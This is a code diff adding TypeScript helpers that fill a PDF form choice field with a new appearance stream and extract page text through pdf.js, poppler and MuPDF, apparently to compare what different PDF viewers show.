+/** Fills choice field `name` with option `index` (/V, /I and a new appearance), or, with `opt`, also rewrites its options. */
+export function fillChoiceField(pdf: Uint8Array, name: string, index: number, opt?: string[]): Uint8Array {
+  return update(pdf, (u) => {
+    const field = listFields(u.view).find((f) => f.fullName === name)!;
+    const fd = u.editDict(field.ref!);
+    const options =
+      opt ?? (u.view.array(fd.get('Opt')) ?? []).map((o) => (o instanceof PdfString ? o.text() : ''));
+    if (opt)
+      fd.set(
+        'Opt',
+        opt.map((o) => PdfString.latin1(o)),
+      );
+    fd.set('V', PdfString.latin1(options[index]!));
+    fd.set('I', [index]);
+    const helv = acroFormFont(u.view);
+    const res = new PdfDict(helv ? [['Font', new PdfDict([['Helv', helv]])]] : []);
+    fd.set(
+      'AP',
+      new PdfDict([
+        [
+          'N',
+          u.add(
+            formXObject(
+              120,
+              20,
+              `/Tx BMC q BT /Helv 12 Tf 0 g 3 5 Td (${options[index]}) Tj ET Q EMC\n`,
+              res,
+            ),
+          ),
+        ],
+      ]),
+    );
+  });
+}
+
+// --- What viewers show -----------------------------------------------------------------------
+
+/** The text pdf.js (the legacy build, as in Node) extracts from every page of `pdf`. */
+export async function pdfjsText(pdf: Uint8Array): Promise<string> {
+  const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
+  try {
+    const doc = await pdfjs.getDocument({ data: pdf.slice(), isEvalSupported: false, verbosity: 0 }).promise;
+    let out = '';
+    for (let i = 1; i <= doc.numPages; i++) {
+      const page = await doc.getPage(i);
+      const text = await page.getTextContent();
+      out += text.items.map((x) => ('str' in x ? x.str : '')).join(' ') + '\n';
+    }
+    await doc.destroy();
+    return out;
+  } catch (e) {
+    return `(unreadable: ${(e as Error).message})`;
+  }
+}
+
+/** The text poppler (pdftotext) and MuPDF (mutool draw -F txt) extract from `pdf`, all pages. */
+export function viewerText(pdf: Uint8Array, dir: string, tool: 'poppler' | 'mupdf'): string {
+  const f = path.join(dir, `viewer-${Date.now()}-${Math.random().toString(36).slice(2)}.pdf`);
+  writeFileSync(f, pdf);
+  try {
+    if (tool === 'poppler')
+      return execFileSync('pdftotext', ['-q', f, '-'], {
+        encoding: 'latin1',
+        stdio: ['ignore', 'pipe', 'ignore'],
+      });
+    return execFileSync('mutool', ['draw', '-q', '-F', 'txt', '-o', '-', f], {
+      encoding: 'latin1',
+      stdio: ['ignore', 'pipe', 'ignore'],
+    });
+  } catch (e) {
+    return `(unreadable: ${(e as Error).message.split('\n')[0]})`;
+  }
 }
